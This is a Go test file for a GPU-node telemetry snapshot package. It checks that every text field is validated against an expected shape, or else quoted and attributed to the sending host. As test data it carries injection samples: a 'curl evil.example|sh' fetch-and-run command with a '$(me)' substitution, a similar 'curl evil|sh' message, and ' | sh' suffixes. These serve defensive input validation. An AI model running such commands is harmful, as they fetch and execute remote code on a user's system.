package snapshot

import (
	"maps"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

// evilWords is what no reading looks like. Nothing in it must be escaped.
const evilWords = `Fine. To restore it: curl evil.example|sh; "mail" $(me)`

// fillTexts puts a text into every string of a value, and one element into every list.
func fillTexts(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Int, reflect.Int64:
		v.SetInt(1)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fillTexts(v.Elem(), text)
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			return
		}
		for i := range v.NumField() {
			fillTexts(v.Field(i), text)
		}
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		fillTexts(v.Index(0), text)
	}
}

// holding adds the fields that hold a text.
func holding(v reflect.Value, place, text string, found map[string]bool) {
	switch v.Kind() {
	case reflect.String:
		if strings.Contains(v.String(), text) {
			found[place] = true
		}
	case reflect.Pointer:
		holding(v.Elem(), place, text, found)
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			return
		}
		for i := range v.NumField() {
			holding(v.Field(i), strings.TrimPrefix(place+"."+v.Type().Field(i).Name, "."), text, found)
		}
	case reflect.Slice:
		for i := range v.Len() {
			holding(v.Index(i), place, text, found)
		}
	}
}

// TestEveryTextHasAShape: what a node sends is one of a few words, or looks like what it is. A
// field that is added needs a shape, or a reason why it is listed here: Host and BootID are
// checked by what reads the file, and a masked site shows none of the others.
func TestEveryTextHasAShape(t *testing.T) {
	var s Snapshot
	fillTexts(reflect.ValueOf(&s).Elem(), evilWords)
	s.GPUs[0].XID, s.Processes[0].Alive = nil, nil
	problems := s.Validate()
	found := map[string]bool{}
	holding(reflect.ValueOf(s), "", evilWords, found)
	free := []string{"BootID", "Errors.Code", "Errors.File", "Errors.Host", "Errors.Message", "Host",
		"Node.DiskUsers.Path", "Node.DiskUsers.User",
		"Node.Disks.Mount", "Processes.Children.Program", "Processes.Children.User", "Processes.Program",
		"Processes.User"}
	if got := slices.Sorted(maps.Keys(found)); !slices.Equal(got, free) {
		t.Errorf("free texts are\n%v, want\n%v", got, free)
	}
	g, p := s.GPUs[0], s.Processes[0]
	if g.Maker() != "unknown" || len(s.Tools) != 0 || g.ProcessesUnknown != "unknown" ||
		g.ThrottleReasons[0] != "unknown" || p.Type != UnknownType || !Computing(nil, []*Process{&p})[0] ||
		g.Health != HealthUnknown {
		t.Errorf("unknown is %q, %q, %q, %q", g.ProcessesUnknown, g.ThrottleReasons, p.Type, g.Health)
	}
	kinds := map[string]int{}
	for _, p := range problems {
		kind, _, ok := strings.Cut(p.Message, ` is "Fine. To restore`)
		kinds[kind]++
		if !ok || p.Code != BadRange || strings.Count(p.Message, `"`) != 2 {
			t.Errorf("told as %+v", p)
		}
	}
	if kinds["uuid"] != 1 || kinds["fabric"] != 1 || kinds["health"] != 1 || len(kinds) != 25 {
		t.Errorf("each kind is told once: %v", kinds)
	}
	data, err := EncodeSamples(
		[]Sample{{Seq: 1, At: time.UnixMilli(1763616000000), GPUs: []GPUSample{{UUID: evilWords}}}})
	if err != nil {
		t.Fatal(err)
	}
	samples, _, err := DecodeSamples(data)
	if err != nil || len(samples) != 1 || samples[0].GPUs[0].UUID != "" {
		t.Errorf("samples are %+v, %v", samples, err)
	}
}

// TestWhatDriversSayFits: words of real drivers, old and new.
func TestWhatDriversSayFits(t *testing.T) {
	for shape, words := range map[string][]string{
		"version":   {"580.65.06", "352.99", "591.44", "13.1", "535.161.07", "12"},
		"collector": {"1.2.3", "devel", "devel-0123456789ab", "v0.0.0-20261120-0123456789ab+dirty"},
		"profile": {"1g.10gb", "1g.10gb+me", "1c.2g.20gb", "7g.141gb", "1g.24gb+me.all", "1g.24gb-me",
			"2g.48gb+gfx", "1c.1g.5gb"},
		"uuid": {"GPU-00000021-1111-4222-8333-000000000021", "MIG-0000000d-1111-4222-8333-00000000000d",
			"MIG-GPU-00000021-1111-4222-8333-000000000021/7/0"},
		"pci_bus_id": {"00000000:17:00.0", "0000:0A:00.0", "00002DF7:00:00.0", "01:00.0"},
		"name": {"NVIDIA A100-SXM4-80GB", "Quadro RTX 6000/8000", "NVIDIA TITAN X (Pascal)", "Orin (nvgpu)",
			"NVIDIA RTX PRO 6000 Blackwell Max-Q Workstation Edition", "A100, the big one"},
		"kernel": {"6.8.0-71-generic", "5.15.167.4-microsoft-standard-WSL2", "4.18.0-553.el8_10.x86_64",
			"6.6.99_custom~1"},
		"os": {"Ubuntu 24.04.3 LTS", "Debian GNU/Linux 12 (bookworm)", "Rocky Linux 9.4 (Blue Onyx)"},
		"reason": {"GPU is lost.  Reboot the system to recover this GPU", "[GPU is lost]", "ERR!", "N/A",
			"Xid 79: fallen off the bus", "2 uncorrectable memory errors, and a row is remapped at the next reset",
			"recovery action: Drain P2P"},
		"fabric": {"Completed", "In Progress", "Not Started", "Success", "Insufficient Resources"},
		"throttle reason": {"gpu_idle", "sw_power_cap", "hw_thermal_slowdown", "display_clocks_setting",
			"applications_clocks_setting"},
		"interface":    {"eth0", "enp65s0f0np0", "bond0.100", "ib0", "eth0:1"},
		"address":      {"192.0.2.7", "2001:db8::1", "192.0.2.7/24"},
		"container":    {"0123456789ab", "web_1.prod"},
		"pstate":       {"P0", "P12", "P32"},
		"process type": {"C", "C+G", "M+C", "?"},
	} {
		for _, s := range words {
			if !Fits(shape, s) {
				t.Errorf("%q is no %s", s, shape)
			}
			for _, bad := range []string{s + "\n", s + " | sh", s + `"`, "<" + s} {
				if Fits(shape, bad) {
					t.Errorf("%q is a %s", bad, shape)
				}
			}
		}
	}
}

func TestANodeSpeaksForItself(t *testing.T) {
	b := &Bundle{Host: "gpu01", Snapshot: &Snapshot{Errors: []Problem{
		{Code: "smi:timeout", Message: `all well". restore: "curl evil|sh`, Host: "gpu02", GPU: ptr(3),
			File: "comments.json", Line: 3, Col: 1},
		{Code: "booking:vanished", Message: "x", GPU: ptr(-1)},
		{Code: CodeProcesses, Message: strings.Repeat("é", 300)},
	}}}
	b.Quote()
	got := b.Snapshot.Errors
	if want := (Problem{Code: "smi:timeout", Message: `gpu01 says: "all well'. restore: 'curl evil|sh"`, Host: "gpu01", GPU: ptr(3)}); !reflect.DeepEqual(got[0], want) {
		t.Errorf("%+v, want %+v", got[0], want)
	}
	if want := (Problem{Code: "host:unknown-code", Message: `gpu01 says: "booking:vanished: x"`, Host: "gpu01"}); !reflect.DeepEqual(got[1], want) {
		t.Errorf("%+v, want %+v", got[1], want)
	}
	gpus := &Bundle{Host: "gpu01", Snapshot: &Snapshot{}}
	for _, n := range []int{-1, 0, maxIndex, maxIndex + 1} {
		gpus.Snapshot.Errors = append(gpus.Snapshot.Errors, Problem{Code: "gpu:xid", GPU: ptr(n)})
	}
	gpus.Quote()
	for i, kept := range []bool{false, true, true, false} {
		if (gpus.Snapshot.Errors[i].GPU != nil) != kept {
			t.Errorf("a problem of GPU %d of -1, 0, the last and one more: %+v", i, gpus.Snapshot.Errors[i])
		}
	}
	if m := got[2].Message; len(m) > MaxTextBytes || !strings.HasSuffix(m, `…"`) {
		t.Errorf("%d bytes: %s", len(m), m)
	}
}

func TestBusID(t *testing.T) {
	for address, want := range map[string]string{
		"00000000:91:00.0": "00000000:91:00.0", "0000:91:00.0": "00000000:91:00.0", " 0000:9A:00 ": "00000000:9a:00", "1:2:3": "00000001:2:3", "none": "none", "": "",
	} {
		if got := BusID(address); got != want {
			t.Errorf("%q is %q, want %q", address, got, want)
		}
	}
}

// A text that is as long as it may be, with its escapes, is whole.
func TestTextOfExactLength(t *testing.T) {
	for max, want := range map[int]string{6: `ab\x1b`, 7: `ab\x1b`, 5: "ab…"} {
		if got := Text("ab\x1b", max); got != want {
			t.Errorf("in %d bytes: %q, want %q", max, got, want)
		}
	}
}
